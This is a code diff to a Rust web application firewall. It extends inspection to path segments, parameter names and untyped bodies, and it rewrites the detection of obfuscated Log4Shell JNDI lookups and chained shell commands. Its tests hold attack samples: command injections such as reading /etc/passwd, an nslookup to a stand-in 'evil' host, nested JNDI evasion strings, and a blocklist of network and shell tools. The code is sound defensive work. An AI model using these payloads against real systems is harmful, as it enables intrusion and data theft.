@@ -79,11 +79,10 @@ impl Rule {
         code.strip_prefix("waf.").unwrap_or(code)
     }
 
+    /// Every rule runs from paranoia level 1 in this version; level 2 is for stricter
+    /// rules to come.
     fn paranoia(self) -> u8 {
-        match self {
-            Rule::RceShellChain => 2,
-            _ => 1,
-        }
+        1
     }
 
     fn score(self) -> u32 {
@@ -192,7 +191,7 @@ impl WafFilter {
                 rule_id: Some(format!("score {score} below {}: {summary}", self.config.threshold).into()),
             };
         }
-        let mut parts: Vec<&str> = hits.iter().map(|h| h.part.as_str()).collect();
+        let mut parts: Vec<String> = hits.iter().map(|h| shown_part(&h.part)).collect();
         parts.dedup();
         let named = parts
             .iter()
@@ -214,8 +213,15 @@ impl WafFilter {
     fn header_phase(&self, ctx: &RequestCtx<'_>) -> Vec<Hit> {
         let mut hits = Vec::new();
         self.inspect(String::from("path"), &form_decode(ctx.path, false), &mut hits);
+        for (i, segment) in ctx.path.split('/').filter(|s| !s.is_empty()).enumerate() {
+            let decoded = form_decode(segment, false);
+            if decoded.len() > 2 {
+                self.inspect(format!("path:{i}"), &decoded, &mut hits);
+            }
+        }
         if let Some(query) = ctx.query {
             for (name, value) in pairs(query) {
+                self.inspect(format!("query:{name}"), &name, &mut hits);
                 self.inspect(format!("query:{name}"), &value, &mut hits);
             }
         }
@@ -245,7 +251,7 @@ impl WafFilter {
             .map(|v| v.split(';').next().unwrap_or("").trim().to_ascii_lowercase())
             .unwrap_or_default();
         let mut hits = Vec::new();
-        if content_type == "application/json" || content_type.ends_with("+json") {
+        if content_type.contains("json") {
             let value: serde_json::Value = serde_json::from_slice(body).map_err(|e| {
                 Denial::new(Reason::WafBodyUnparsable, "The body is not valid JSON.").note(format!(
                     "JSON error at line {} column {}",
@@ -259,9 +265,9 @@ impl WafFilter {
                 values: 0,
             };
             walk.value(&value, &mut String::new(), 0)?;
-        } else if content_type == "multipart/form-data" {
+        } else if content_type.starts_with("multipart/") {
             self.multipart(headers, body, &mut hits)?;
-        } else if content_type == "application/xml" || content_type == "text/xml" || content_type.ends_with("+xml") {
+        } else if content_type.contains("xml") {
             let text = String::from_utf8_lossy(body);
             self.xml(&text, &mut hits)?;
         } else if content_type == "application/x-www-form-urlencoded" {
@@ -272,8 +278,12 @@ impl WafFilter {
                 return Err(too_many(self.config.max_values));
             }
             for (name, value) in fields {
+                self.inspect(format!("form:{name}"), &name, &mut hits);
                 self.inspect(format!("form:{name}"), &value, &mut hits);
             }
+        } else if let Ok(text) = std::str::from_utf8(body) {
+            // Another or no declared type: the body as one value, as a server might read it.
+            self.inspect(String::from("body"), text, &mut hits);
         }
         Ok(hits)
     }
@@ -538,7 +548,10 @@ fn html_decode(text: &str) -> String {
     while let Some(at) = rest.find('&') {
         out.push_str(&rest[..at]);
         rest = &rest[at..];
-        let end = rest.find(';').filter(|e| *e <= 10);
+        // A reference is short: look for its `;` within a few bytes only (a scan to the
+        // end of the value for every `&` would make long values quadratic).
+        let window = &rest.as_bytes()[..rest.len().min(12)];
+        let end = window.iter().position(|b| *b == b';');
         let decoded = end.and_then(|e| {
             let entity = &rest[1..e];
             let c = match entity {
@@ -570,57 +583,129 @@ fn html_decode(text: &str) -> String {
     out
 }
 
-/// A `${jndi:` lookup, also spelled with nested lookups that evaluate to its letters.
+/// A `${jndi:` lookup, also spelled with nested lookups that evaluate to its letters
+/// (`${lower:j}`, `${::-j}`, `${env:X:-j}`, nested again). Innermost lookups are resolved
+/// first, a bounded number of rounds, each a linear scan; a lookup longer than 64 bytes is
+/// left as it is (no real obfuscation needs more, and long values stay linear).
 fn jndi(value: &str) -> bool {
-    let lower = value.to_ascii_lowercase();
-    if !lower.contains("${") {
+    let mut text = value.to_ascii_lowercase();
+    if !text.contains("${") {
         return false;
     }
-    // `${lower:j}`, `${upper:j}`, `${::-j}`, `${env:X:-j}`, `${date:'j'}` all read `j`.
-    let mut flat = String::with_capacity(lower.len());
-    let mut rest = lower.as_str();
-    while let Some(at) = rest.find("${") {
-        flat.push_str(&rest[..at]);
-        let inner_start = at + 2;
-        match rest[inner_start..].find('}') {
-            Some(close) if !rest[inner_start..inner_start + close].contains("${") => {
-                let inner = &rest[inner_start..inner_start + close];
-                let letters = inner.rsplit([':', '-']).next().unwrap_or("").trim_matches('\'');
-                if inner.starts_with("jndi") || inner.contains("jndi:") {
-                    flat.push_str("${");
-                    flat.push_str(inner);
-                } else {
-                    flat.push_str(letters);
+    for _ in 0..16 {
+        if text.contains("${jndi:") {
+            return true;
+        }
+        let mut next = String::with_capacity(text.len());
+        let mut rest = text.as_str();
+        let mut changed = false;
+        while let Some(at) = rest.find("${") {
+            next.push_str(&rest[..at]);
+            let inner_start = at + 2;
+            let window = &rest[inner_start..rest.len().min(inner_start + 64)];
+            match window.find('}') {
+                Some(close) if !window[..close].contains("${") && !window[..close].starts_with("jndi") => {
+                    let inner = &window[..close];
+                    let resolved = match inner.find(":-") {
+                        Some(d) => &inner[d + 2..],
+                        None => inner.rsplit(':').next().unwrap_or(""),
+                    };
+                    next.push_str(resolved.trim_matches('\''));
+                    rest = &rest[inner_start + close + 1..];
+                    changed = true;
                 }
-                rest = &rest[inner_start + close + 1..];
-            }
-            _ => {
-                flat.push_str("${");
-                rest = &rest[inner_start..];
+                _ => {
+                    next.push_str("${");
+                    rest = &rest[inner_start..];
+                }
             }
         }
+        next.push_str(rest);
+        if !changed {
+            return false;
+        }
+        text = next;
     }
-    flat.push_str(rest);
-    flat.contains("jndi:") && (flat.contains("${") || lower.contains("${jndi"))
+    text.contains("${jndi:")
 }
 
-/// A shell command chained into a value: `; cmd`, `| cmd`, `&& cmd`, `$(cmd)`, `` `cmd` ``.
+/// A shell command chained into a value: after `;`, `|`, `&`, a newline, `$(` or a
+/// backquote, a known command (also by full path, `/bin/cat`), then the end of the value,
+/// a closing `)` or backquote, or an argument that starts with `-` or `/`. Prose that
+/// merely has a separator before a common word (`Tickets; id required`) does not match.
 fn shell_chain(value: &str) -> bool {
-    const COMMANDS: [&str; 14] = [
-        "cat", "ls", "id", "whoami", "uname", "wget", "curl", "nc", "bash", "sh", "python", "perl", "rm", "ping",
+    const COMMANDS: [&str; 24] = [
+        "cat",
+        "ls",
+        "id",
+        "whoami",
+        "uname",
+        "wget",
+        "curl",
+        "nc",
+        "ncat",
+        "bash",
+        "sh",
+        "zsh",
+        "python",
+        "python3",
+        "perl",
+        "php",
+        "ruby",
+        "rm",
+        "ping",
+        "nslookup",
+        "powershell",
+        "cmd",
+        "chmod",
+        "sleep",
     ];
     let lower = value.to_ascii_lowercase();
-    ["$(", "`"].iter().any(|s| lower.contains(s))
-        || [";", "|", "&&"].iter().any(|sep| {
-            lower.split(sep).skip(1).any(|after| {
-                let word = after
-                    .trim_start()
-                    .split(|c: char| !c.is_ascii_alphanumeric())
-                    .next()
-                    .unwrap_or("");
-                COMMANDS.contains(&word)
-            })
-        })
+    let bytes = lower.as_bytes();
+    let mut i = 0;
+    while i < bytes.len() {
+        let start = match bytes[i] {
+            b';' | b'|' | b'&' | b'\n' | b'`' => i + 1,
+            b'$' if bytes.get(i + 1) == Some(&b'(') => i + 2,
+            _ => {
+                i += 1;
+                continue;
+            }
+        };
+        let after = lower[start..].trim_start_matches([' ', '\t', '&', '|']);
+        let word_end = after
+            .find(|c: char| c.is_whitespace() || c == ')' || c == '`')
+            .unwrap_or(after.len());
+        let word = &after[..word_end];
+        let command = word.rsplit('/').next().unwrap_or(word);
+        if COMMANDS.contains(&command) {
+            let tail = &after[word_end..];
+            let argument = tail.trim_start();
+            if tail.is_empty()
+                || tail.starts_with([')', '`'])
+                || (tail.starts_with(char::is_whitespace) && argument.starts_with(['-', '/']))
+            {
+                return true;
+            }
+        }
+        i += 1;
+    }
+    false
+}
+
+/// A part as the caller is told it: names the caller chose are shown only when they are
+/// plain (letters, digits, `_-.:/@`, at most 64 bytes), else as a hash, so a refusal never
+/// echoes attack text back.
+fn shown_part(part: &str) -> String {
+    let plain = part.len() <= 64
+        && part
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b"_-.:/@$".contains(&b));
+    match (plain, part.split_once(':')) {
+        (true, _) => part.to_owned(),
+        (false, Some((kind, name))) => format!("{kind}:#{}", &masked(name)[masked(name).len() - 8..]),
+        (false, None) => String::from("#"),
+    }
 }
 
 /// A value as the trace shows it: its first characters and a hash, never the whole.
@@ -705,6 +790,45 @@ mod tests {
         assert!(!jndi("${price} is jndi-free"));
         assert!(shell_chain("x; cat /etc/passwd") && shell_chain("$(id)"));
         assert!(!shell_chain("Tom & Jerry; a catalogue"));
+        for attack in [
+            "x; cat /etc/passwd",
+            "a|id",
+            "1 && /usr/bin/id",
+            "q\nwhoami",
+            "`id`",
+            "; nslookup -q x.evil",
+            "& ping -c 1 x",
+        ] {
+            assert!(shell_chain(attack), "{attack}");
+        }
+        for prose in [
+            "Tickets; id required at the door",
+            "Use $(document).ready()",
+            "Run `npm install` first",
+            "Coffee; ls: large size",
+            "salt; pepper; sh-bang",
+            "3-5 days | curl up with a book",
+        ] {
+            assert!(!shell_chain(prose), "{prose}");
+        }
+        for jndi_attack in [
+            "${${lower:${lower:j}}ndi:ldap://x/a}",
+            "${${::-${::-j}}ndi:ldap://x/a}",
+            "${jndi${::-:}ldap://x/a}",
+            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}",
+            "${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://x/a}",
+        ] {
+            assert!(jndi(jndi_attack), "{jndi_attack}");
+        }
+        // Long runs stay linear.
+        let long = "&".repeat(300_000) + &"${".repeat(300_000);
+        let started = std::time::Instant::now();
+        assert!(!jndi(&long) && html_decode(&long).len() == long.len());
+        assert!(
+            started.elapsed() < std::time::Duration::from_secs(2),
+            "{:?}",
+            started.elapsed()
+        );
         assert!(template_expression("{{7*7}}") && template_expression("${7*7}") && template_expression("<%= 7 * 7 %>"));
         assert!(template_expression("{{self.__class__}}"));
         assert!(!template_expression("Hello {{name}}, it costs ${price}") && !template_expression("5*5 = 25"));
